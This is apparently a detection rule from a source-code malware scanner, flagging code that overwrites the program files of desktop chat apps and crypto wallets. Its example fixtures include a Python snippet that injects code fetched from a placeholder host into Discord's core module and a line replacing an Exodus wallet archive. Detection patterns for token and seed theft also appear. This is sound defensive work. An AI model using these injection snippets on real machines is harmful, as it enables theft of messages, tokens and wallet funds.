import type { FileCheck } from '../../check.ts';
import { isCommented } from '../../facts/text/comments.ts';
import { isCode } from '../../inventory/language.ts';

/** Files in which programs for the desktop keep the code that they run. */
const CODE_OF_PROGRAM =
  /\bdiscord_desktop_core\b|(?:\bdiscord\w{0,12}|\bexodus|\batomic(?:\s?wallet)?|\bledger[\s_-]?live|\bslack|\bsignal|\btelegram)["'\s\\/,)]{1,6}[^\n]{0,80}\bapp\.asar\b/gi;
/** The file is written, copied over or moved away. */
const WRITES =
  /\b(?:writeFile|appendFile|copyFile|rename|cp)(?:Sync)?\s{0,2}\(|\bcreateWriteStream\s{0,2}\(|\bopen\([^\n]{1,200},\s{0,3}["'](?:w|a|r\+)[b+]{0,2}["']|\bwrite_(?:text|bytes)\(|\bshutil\.(?:copy|copyfile|copy2|move)\(|\bos\.WriteFile\(|\bFile\.(?:write|WriteAllText)\b|\bio\.open\([^\n]{1,120},\s{0,2}["']w/;
/** What the new code is for: to pass on what its user types, owns or is known by. */
const CARRIES_OFF =
  /\bwebhooks?\b|\bAuthorization\b|\bgetToken\b|\btoken\b|\bseed\b|\bmnemonic\b|\bpassphrase\b|\bpassword\b|\bonBeforeSendHeaders\b|\braw\.githubusercontent\.com\b/i;

export const check: FileCheck = {
  id: 'filesystem-program-tampering',
  title: 'Changes the code of another program',
  severity: 'critical',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [506],
  why: `
    Chat programs and wallets for the desktop keep their own code in a file that everybody can write. Whoever puts other code
    there sees every message, token and password from then on, also after the package that did it is gone.`,
  fix: 'Remove it. On machines that ran it, install the other program anew, end its sessions and move what its wallet holds.',
  blindSpots: 'Other programs than the common chats and wallets, and folders that are put together piece by piece.',
  wants: { keywords: ['discord_desktop_core', 'app.asar'] },
  examples: {
    bad: [
      {
        'patch.py': `
          target = glob.glob(os.getenv('LOCALAPPDATA') + '/Discord/*/modules/«discord_desktop_core»/index.js')[0]
          with open(target, 'w') as out:
              out.write(requests.get('https://c.example.net/core.js').text.replace('%HOOK%', webhook))`,
      },
      {
        'update.js': `
          const target = path.join(home, '«Exodus/resources/app.asar»');
          fs.copyFileSync(path.join(__dirname, 'seed.asar'), target);`,
      },
    ],
    good: [
      { 'find.js': "const core = fs.readFileSync(path.join(root, 'discord_desktop_core', 'index.js'), 'utf8');\n" },
      { 'pack.js': "await asar.createPackage('build', 'dist/app.asar');\nfs.writeFileSync('dist/token.txt', '');\n" },
      { 'note.py': "# writes to discord_desktop_core with a token\nopen('a.txt', 'w')\n" },
    ],
  },

  *find({ windows, text, language, context }) {
    if (!isCode(language) || context === 'docs' || !WRITES.test(text)) return;
    const isTheft = CARRIES_OFF.test(text);
    for (const window of windows) {
      for (const match of window.text.matchAll(CODE_OF_PROGRAM)) {
        if (isCommented(text, window.start + match.index)) continue;
        yield {
          at: window.spanOf(match),
          message: 'The code writes into the program that a chat or a wallet runs.',
          // People change the looks of their chat themselves.
          ...(!isTheft && { severity: 'high', confidence: 'medium' }),
        };
      }
    }
  },
};
